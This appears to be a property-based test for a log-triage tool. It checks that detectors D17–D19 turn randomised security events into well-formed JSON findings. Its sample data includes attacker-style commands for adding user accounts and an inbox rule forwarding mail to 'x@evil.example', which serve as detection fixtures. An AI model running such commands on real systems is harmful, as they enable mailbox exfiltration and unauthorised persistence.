"""Whatever a log leaves out or says twice: D17, D18 and D19 give findings that are plain JSON and read as sentences."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from triage.detectors.judging import _detector
from triage.detectors.protocol import Context, Scope
from triage.detectors.registry import DETECTORS
from triage.events.schema import frame
from triage.events.store import located

START = datetime(2026, 11, 17, 8, tzinfo=UTC)
SESSION = "arn:aws:sts::1:assumed-role/w/i-0123456789abcdef0"
VALUES: dict[str, list[Any]] = {
    "@timestamp": [START, START + timedelta(minutes=5), START + timedelta(days=1)],
    "event.category": ["iam", "email", "api", "configuration", "process"],
    "event.action": ["user_created", "group_member_added", "mail_sent", "inbox_rule_changed", "ListUsers", "sudo"],
    "event.code": ["ListObjects", "New-InboxRule"],
    "event.outcome": ["success", "failure"],
    "user.name": ["ada", "", "adm1n", "ada@corp.example"],
    "user.id": ["ANONYMOUS_PRINCIPAL", SESSION],
    "actor.user.name": ["ada", "eve"],
    "group.name": ["admins"],
    "email.from": ["ada@corp.example", "no address"],
    "email.to": ["bob@other.example"],
    "email.count": [1, 600],
    "service.name": ["s3.amazonaws.com", "exchange"],
    "source.ip": ["203.0.113.7", "10.0.0.1", "2001:db8::1"],
    "host.name": ["h"],
    "process.command_line": ["net user bob x /add", "useradd z", 'New-InboxRule -ForwardTo "x@evil.example"'],
    "user_agent.original": ["aws-cli/2.15 Darwin/23", "Boto3/1.34 Linux"],
    "evidence.line": [1, 5],
    "evidence.pointer": ["/events/0"],
}
COUNT = {"event.count": st.sampled_from([1, 2])}
EVENT = st.fixed_dictionaries(COUNT, optional={name: st.sampled_from(values) for name, values in VALUES.items()})
SCOPES = st.sampled_from(
    [
        Scope(),
        Scope(users=("ada", "ada@corp.example")),
        Scope(ips=("203.0.113.0/24",), users=("bob",), window=("2026-11-17T07:00:00Z", None)),
    ]
)
LISBON = Context(assets=({"kind": "host", "name": "h", "zone": "Europe/Lisbon"},))


@pytest.mark.parametrize("name", ["D17", "D18", "D19"])
@settings(max_examples=60, deadline=None)
@given(events=st.lists(EVENT, max_size=30), scope=SCOPES)
def test_odd_events(name: str, events: list[dict[str, Any]], scope: Scope) -> None:
    told = located(frame(events), evidence_id=1, name="log")
    for finding in _detector(DETECTORS[name]).detect(told, LISBON, {}, scope):
        assert json.loads(json.dumps(finding.to_json()))["sentence"].strip().endswith(".")
        assert "None" not in finding.sentence
        assert finding.answer != "cannot_tell" or finding.missing
